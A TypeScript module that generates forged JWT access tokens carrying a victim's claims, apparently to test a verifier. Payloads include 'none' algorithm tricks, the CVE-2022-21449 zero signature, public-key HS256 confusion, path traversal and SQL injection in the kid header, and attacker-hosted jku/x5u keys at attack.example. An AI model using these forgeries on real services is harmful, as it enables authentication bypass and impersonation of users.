/** Access tokens without a valid signature of the service. */
import { createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';

const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const payloadOf = (token: string): object =>
  JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8'));

/** A signature of two zeros, which some verifiers accepted for any text (CVE-2022-21449). */
const ZEROS = Buffer.alloc(64).toString('base64url');

/**
 * Forgeries by their names, made from a valid token and the public keys of the service. `otherClaims` are those of the
 * victim.
 */
export function forgeries(token: string, otherClaims: object, publicPem: string): Record<string, string> {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const claims = { ...payloadOf(token), ...otherClaims };
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const own = { typ: 'at+jwt', alg: 'ES256' };
  const hmac = (head: object, secret: string) => {
    const text = `${part(head)}.${part(claims)}`;
    return `${text}.${createHmac('sha256', secret).update(text).digest('base64url')}`;
  };
  const unsigned = ['none', 'None', 'NONE', 'nOnE'].flatMap((alg) => [
    [`algorithm ${alg}, without a signature`, `${part({ typ: 'at+jwt', alg })}.${part(claims)}.`],
    [`algorithm ${alg}, with the signature of another`, `${part({ typ: 'at+jwt', alg })}.${part(claims)}.${signature}`],
  ]);
  return {
    ...Object.fromEntries(unsigned),
    'the claims of somebody else under the same signature': `${header}.${part(claims)}.${signature}`,
    'no signature': `${header}.${payload}.`,
    'two parts': `${header}.${payload}`,
    'five parts': `${header}.${payload}.${signature}.${payload}.${signature}`,
    'a signature of two zeros': `${header}.${part(claims)}.${ZEROS}`,
    'the public key as the secret of HS256': hmac({ typ: 'at+jwt', alg: 'HS256' }, publicPem),
    'an empty secret by the path of a key': hmac(
      { typ: 'at+jwt', alg: 'HS256', kid: '../../../../../../dev/null' },
      '',
    ),
    'a key id that is SQL': hmac({ typ: 'at+jwt', alg: 'HS256', kid: "x' union select 'secret" }, 'secret'),
    'a key of its own': signed(own, claims, privateKey),
    'a key of its own in the header': signed({ ...own, jwk: publicKey.export({ format: 'jwk' }) }, claims, privateKey),
    'a key of its own at an address': signed(
      { ...own, jku: 'https://attack.example/keys.json', x5u: 'https://attack.example/key.pem' },
      claims,
      privateKey,
    ),
    'a header that must be understood': signed({ ...own, crit: ['exp'], b64: false }, claims, privateKey),
    'an algorithm that is a list': signed({ ...own, alg: ['none', 'ES256'] }, claims, privateKey),
    'a token of ten thousand characters': `${header}.${'A'.repeat(10_000)}.${signature}`,
    'no token at all': 'null',
  };
}

function signed(header: object, claims: object, key: KeyObject): string {
  const text = `${part(header)}.${part(claims)}`;
  return `${text}.${sign('sha256', Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}
